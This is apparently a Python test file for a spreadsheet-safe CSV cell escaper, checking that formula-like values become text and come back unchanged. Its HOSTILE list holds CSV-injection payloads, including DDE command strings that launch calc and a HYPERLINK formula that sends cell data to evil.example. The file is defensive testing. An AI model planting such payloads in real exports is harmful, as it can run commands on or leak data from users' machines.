"""S48: a cell that a spreadsheet might run is text, and the value is not lost by it."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recordings.sheets.cells import csv_cell, csv_column, neutral, original

RISKY = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\0",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\ufe66",
    "\ufe62",
    "\ufe63",
    "\ufe6b",
]
HOSTILE = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text(value: str) -> None:
    assert neutral(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["", "Noa Levi", "דנה מרלו", "a=b", "1-2", "2026-11-20T09:14:22.000000Z", "مريم"]
)
def test_what_is_no_formula_stays_as_it_is(value: str) -> None:
    assert neutral(value) == value


def test_a_name_that_begins_with_an_apostrophe_comes_back_whole() -> None:
    assert original(neutral("'s-Gravenhage")) == "'s-Gravenhage"


values = st.text() | st.builds(str.__add__, st.sampled_from([*RISKY, "'", " ", '"', ","]), st.text())


@given(values)
def test_every_value_comes_back(value: str) -> None:
    assert original(neutral(value)) == value


@given(values)
def test_no_cell_begins_a_formula(value: str) -> None:
    cell = neutral(value)
    assert not cell.startswith(tuple(RISKY))
    assert not cell.lstrip().startswith(tuple(RISKY))


@given(st.lists(values, min_size=2, max_size=5))
def test_a_line_is_what_a_csv_writer_writes_and_comes_back(row: list[str]) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerow(map(neutral, row))
    line = ",".join(map(csv_cell, row)) + "\r\n"
    assert line == out.getvalue()
    read = next(csv.reader(io.StringIO(line, newline="")))
    assert [original(cell) for cell in read] == row


@given(st.lists(values | st.sampled_from(["Noa Levi", "user:7", "", "\x1f=1", "\x1f"]), max_size=5))
def test_a_column_is_its_cells(column: list[str]) -> None:
    assert list(csv_column(column)) == list(map(csv_cell, column))
